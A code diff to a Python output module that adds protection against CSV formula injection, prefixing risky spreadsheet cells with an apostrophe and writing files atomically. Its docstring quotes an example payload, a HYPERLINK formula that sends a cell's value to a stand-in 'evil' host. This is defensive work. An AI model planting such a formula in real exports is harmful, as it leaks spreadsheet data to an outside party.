@@ -1,17 +1,83 @@
-"""Renders CLI results as an aligned table, JSON or CSV."""
+"""Renders CLI results as an aligned table, JSON or CSV, and CSV downloads that spreadsheets cannot run.
+
+A spreadsheet treats a cell starting with `=`, `+`, `-` or `@` (or a tab or
+carriage return before one) as a formula: an imported product title like
+`=HYPERLINK("http://evil/?"&A1)` would run when an analyst opens an export.
+Every CSV ShopLens writes goes through `neutralise_frame`, which prefixes such
+text cells with `'` (shown as text, and visibly so); numbers stay numbers,
+whether stored as numbers or as text like "-12.5".
+"""
 
 from __future__ import annotations
 
 import io
 import json
 import math
+import os
+import re
+import uuid
 from datetime import date, datetime
+from pathlib import Path
 from typing import Any, Literal
 
 import pandas as pd
 
 Format = Literal["table", "json", "csv"]
 FORMATS: tuple[str, ...] = ("table", "json", "csv")
+# What makes a spreadsheet read a cell as a formula (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
+UTF8_BOM = "\ufeff"
+
+
+def neutralise_cell(value: Any) -> Any:
+    """Prefix a text cell that a spreadsheet would run as a formula with `'`; leave everything else as it is."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value):
+        return "'" + value
+    return value
+
+
+def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of `frame` whose text cells and column names cannot run as spreadsheet formulas.
+
+    Numeric, boolean and date columns are untouched; in text columns, plain numbers ("-3", "+1.5e3") are too.
+    """
+    safe = frame.copy()
+    for column in safe.columns:
+        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column].dtype):
+            safe[column] = safe[column].map(neutralise_cell)
+    safe.columns = [neutralise_cell(name) if isinstance(name, str) else name for name in safe.columns]
+    return safe
+
+
+def csv_text(frame: pd.DataFrame) -> str:
+    """The rows as CSV text (comma-separated, header row, no index), formulas neutralised."""
+    buffer = io.StringIO()
+    neutralise_frame(frame).to_csv(buffer, index=False, lineterminator="\n")
+    return buffer.getvalue()
+
+
+def safe_csv_bytes(frame: pd.DataFrame) -> bytes:
+    """A CSV download for the pages: UTF-8 with a byte-order mark (so Excel reads accents and Chinese
+    correctly), formulas neutralised (see `neutralise_frame`)."""
+    return (UTF8_BOM + csv_text(frame)).encode("utf-8")
+
+
+def write_csv(frame: pd.DataFrame, path: Path) -> Path:
+    """Write `frame` as neutralised CSV (UTF-8) to `path` all at once: a temp file, then a rename.
+
+    Returns:
+        The path written.
+    """
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    partial = path.with_name(f".{path.name}.{uuid.uuid4().hex}.partial")
+    try:
+        partial.write_text(csv_text(frame), encoding="utf-8")
+        os.replace(partial, path)
+    finally:
+        partial.unlink(missing_ok=True)
+    return path
 
 
 def render_frame(frame: pd.DataFrame, output_format: Format, *, title: str | None = None) -> str:
@@ -26,9 +92,7 @@ def render_frame(frame: pd.DataFrame, output_format: Format, *, title: str | Non
         The text, ending with a newline.
     """
     if output_format == "csv":
-        buffer = io.StringIO()
-        frame.to_csv(buffer, index=False, lineterminator="\n")
-        return buffer.getvalue()
+        return csv_text(frame)
     if output_format == "json":
         return json.dumps([_jsonable_row(row) for row in frame.to_dict("records")], ensure_ascii=False, indent=2) + "\n"
     text = frame.to_string(index=False, na_rep="—") if len(frame) else "(no rows)"
